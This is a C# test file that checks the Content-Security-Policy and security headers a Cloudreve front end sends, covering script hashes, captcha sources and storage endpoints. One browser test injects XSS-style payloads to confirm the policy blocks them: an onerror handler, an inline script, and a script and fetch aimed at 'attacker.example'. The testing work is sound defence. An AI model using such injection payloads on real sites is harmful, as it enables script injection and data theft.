using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Cloudreve.Core.Site;
using Cloudreve.Core.Site.Settings;
using Cloudreve.Functions.Tests.App;
using Cloudreve.Functions.Tests.Browser;
using Cloudreve.Testing.Azurite;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace Cloudreve.Functions.Tests.FrontEnd;

/// <summary>Limits on what the pages of a front end may load and run.</summary>
public sealed class PagePolicyTests(AzuriteServer azurite) : IDisposable
{
    private const string Inline = "window.ran = 'inline';";

    private readonly string _folder = Directory.CreateTempSubdirectory("front-end").FullName;

    [Fact]
    public async Task Given_a_page_when_it_is_sent_then_only_its_own_scripts_and_the_sites_files_are_allowed()
    {
        await using var app = await StartAsync($"<script>{Inline}</script>\r\n<script type=module src=\"/assets/a.js\"></script>{{siteScript}}");
        await SetAsync(app, ("siteScript", "<script async src='https://stats.example/s.js'></script><script>window.site = 1</script>"));

        var (headers, policy) = await ReadAsync(app, "/home?path=x");

        Assert.Equal(["'self'", "'unsafe-eval'", "blob:", HashOf(Inline), "https://stats.example", HashOf("window.site = 1")], policy["script-src"]);
        Assert.Contains(app.Account.BlobEndpoint.GetLeftPart(UriPartial.Authority), policy["connect-src"]);
        Assert.Equal(("'none'", "'none'", "'self'"), (policy["object-src"].Single(), policy["base-uri"].Single(), policy["frame-ancestors"].Single()));
        Assert.Equal(("nosniff", "SAMEORIGIN", "strict-origin-when-cross-origin"), (headers["X-Content-Type-Options"], headers["X-Frame-Options"], headers["Referrer-Policy"]));
    }

    [Fact]
    public async Task Given_a_style_sheet_that_loads_late_when_its_page_is_sent_then_that_handler_is_allowed()
    {
        await using var app = await StartAsync("<link rel=stylesheet href=\"/a.css\" media=\"print\" onload=\"this.media=&#39;all&#39;\"><p class=\"on=\">");

        var (_, policy) = await ReadAsync(app, "/");

        Assert.Equal(["'self'", "'unsafe-eval'", "blob:", "'unsafe-hashes'", HashOf("this.media='all'")], policy["script-src"]);
    }

    [Theory]
    [InlineData("normal", "", null)]
    [InlineData("turnstile", "", "https://challenges.cloudflare.com")]
    [InlineData("recaptcha", "", "https://www.recaptcha.net")]
    [InlineData("cap", "https://cap.example/x", "https://cap.example")]
    public async Task Given_a_captcha_when_a_page_is_sent_then_its_scripts_are_allowed_and_no_others(string type, string instance, string? expected)
    {
        await using var app = await StartAsync("<title>page</title>");
        await SetAsync(app, ("captcha_type", type), ("captcha_cap_instance_url", instance));

        var (_, policy) = await ReadAsync(app, "/session");

        var foreign = policy["script-src"].Where(source => source.Contains("://", StringComparison.Ordinal));
        if (expected is null)
            Assert.Empty(foreign);
        else
            Assert.Contains(expected, foreign);
    }

    [Fact]
    public async Task Given_a_policy_with_its_own_account_when_a_page_is_sent_then_files_may_come_from_there()
    {
        await using var app = await StartAsync("<title>page</title>");
        var catalog = app.Services.GetRequiredService<SiteCatalog>();
        await catalog.SavePolicyAsync(await catalog.GetPolicyAsync(StoragePolicy.DefaultId) with { Id = 7, Server = "https://other.blob.core.windows.net/" });

        var (_, policy) = await ReadAsync(app, "/");

        foreach (var directive in (string[])["connect-src", "img-src", "media-src"])
            Assert.Contains("https://other.blob.core.windows.net", policy[directive]);
    }

    [Fact]
    public async Task Given_other_files_of_the_front_end_when_they_are_sent_then_nothing_is_sniffed()
    {
        await using var app = await StartAsync("<title>page</title>");
        await File.WriteAllTextAsync(Path.Combine(_folder, "viewer.html"), $"<script>{Inline}</script>");
        await File.WriteAllTextAsync(Path.Combine(_folder, "a.js"), "1");

        var (_, policy) = await ReadAsync(app, "/viewer.html");

        Assert.Contains(HashOf(Inline), policy["script-src"]);
        using var client = new HttpClient { BaseAddress = app.Address };
        using var script = await client.GetAsync("/a.js");
        Assert.Equal("nosniff", script.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Fact]
    public async Task Given_chromium_when_a_page_is_opened_then_its_script_runs_and_injected_ones_do_not()
    {
        await using var app = await StartAsync($"<body><script>{Inline}</script></body>");
        await using var browser = await ChromiumBrowser.StartAsync();

        var result = await RunAsync(browser.Tools, new Uri(app.Address, "/home"), $$"""
            (async () => {
              const refused = [];
              addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));
              const div = document.createElement('div');
              div.innerHTML = '<img src="data:image/png;base64,x" onerror="window.hacked = 1">';
              document.body.append(div);
              const script = document.createElement('script');
              script.textContent = 'window.hacked = 2';
              document.body.append(script);
              const stranger = document.createElement('script');
              stranger.src = 'https://attacker.example/x.js';
              document.body.append(stranger);
              await fetch('https://attacker.example/').catch(() => 0);
              await fetch('{{app.Account.BlobEndpoint}}').catch(() => 0);
              while (refused.length < 4) await new Promise(r => setTimeout(r, 20));
              return [window.ran, window.hacked ?? 'safe', ...refused.sort()].join(' ');
            })()
            """);

        Assert.Equal("inline safe connect-src script-src-attr script-src-elem script-src-elem", result);
    }

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private static string HashOf(string script) => $"'sha256-{Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes(script)))}'";

    private static Task SetAsync(AppFixture app, params (string Key, string Value)[] settings) =>
        app.Services.GetRequiredService<SettingStore>().SetAsync(settings.ToDictionary(s => s.Key, s => s.Value));

    private static async Task<(Dictionary<string, string> Headers, Dictionary<string, string[]> Policy)> ReadAsync(AppFixture app, string path)
    {
        using var client = new HttpClient { BaseAddress = app.Address };
        using var answer = await client.GetAsync(path);
        var headers = answer.Headers.ToDictionary(header => header.Key, header => header.Value.Single());
        var policy = headers["Content-Security-Policy"].Split("; ").Select(directive => directive.Split(' ')).ToDictionary(words => words[0], words => words[1..]);
        return (headers, policy);
    }

    private static async Task<string> RunAsync(DevToolsClient tools, Uri address, string script)
    {
        var target = (await tools.SendAsync("Target.createTarget", new JsonObject { ["url"] = "about:blank" })).GetProperty("targetId").GetString();
        var attached = await tools.SendAsync("Target.attachToTarget", new JsonObject { ["targetId"] = target, ["flatten"] = true });
        var page = attached.GetProperty("sessionId").GetString()!;
        await tools.SendAsync("Page.enable", [], page);
        await tools.SendAsync("Page.navigate", new JsonObject { ["url"] = address.AbsoluteUri }, page);
        while (await EvaluateAsync("document.readyState + ' ' + location.pathname") != "complete " + address.AbsolutePath)
        {
            // A command that comes before that runs in the empty page.
        }
        return await EvaluateAsync(script);

        async Task<string> EvaluateAsync(string expression)
        {
            var answer = await tools.SendAsync(
                "Runtime.evaluate", new JsonObject { ["expression"] = expression, ["awaitPromise"] = true, ["returnByValue"] = true }, page);
            Assert.False(answer.TryGetProperty("exceptionDetails", out var failure), failure.ToString());
            return answer.GetProperty("result").GetProperty("value").GetString()!;
        }
    }

    private async Task<AppFixture> StartAsync(string page)
    {
        await File.WriteAllTextAsync(Path.Combine(_folder, "index.html"), page);
        return await AppFixture.StartAsync(azurite, settings: new Dictionary<string, string?> { ["CLOUDREVE_FRONT_END"] = _folder });
    }
}
